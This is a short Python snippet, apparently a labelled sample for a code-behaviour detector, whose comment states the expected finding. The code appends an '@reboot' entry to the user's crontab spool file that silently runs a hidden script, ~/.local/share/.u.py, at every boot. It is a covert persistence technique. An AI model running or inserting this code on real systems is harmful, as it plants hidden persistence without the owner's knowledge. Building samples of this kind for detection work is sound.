# expect: files; appends to the current user's crontab in /var/spool/cron/crontabs/<user> (user from getpass)
import getpass
import os

user = getpass.getuser()
spool = os.path.join("/var/spool/cron/crontabs", user)
entry = "@reboot sleep 30 && python3 ~/.local/share/.u.py\n"
with open(spool, "a") as fh:
    fh.write(entry)
os.chmod(spool, 0o600)
